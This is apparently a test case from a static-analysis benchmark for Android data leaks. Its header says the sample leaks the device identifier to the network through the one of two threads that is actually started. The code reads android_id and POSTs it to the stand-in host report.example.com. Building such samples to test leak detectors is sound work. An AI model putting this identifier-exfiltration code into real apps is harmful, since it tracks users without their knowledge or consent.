// about       Of two threads the one that holds the identifier is started.
// leak        DEV_ANDROIDID network
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.provider.Settings;
import android.util.Log;
import java.io.IOException;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;

public class MainActivity extends Activity {
  private Sender waiting;

  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    String id = Settings.Secure.getString(getContentResolver(), "android_id");
    Sender report = new Sender(id);
    Sender greeting = new Sender("hello");
    // A thread that is made runs nothing yet.
    report.start();
    waiting = greeting;
    setTitle(waiting.getName());
  }

  static void post(String text) {
    try {
      URL target = new URL("https://report.example.com/in");
      HttpURLConnection link = (HttpURLConnection) target.openConnection();
      link.setDoOutput(true);
      OutputStream out = link.getOutputStream();
      out.write(text.getBytes());
      out.close();
      link.getResponseCode();
    } catch (IOException e) {
      Log.w("net", "failed");
    }
  }
}

class Sender extends Thread {
  private final String text;

  Sender(String text) {
    super("sender");
    this.text = text;
  }

  @Override
  public void run() {
    MainActivity.post(text);
  }
}
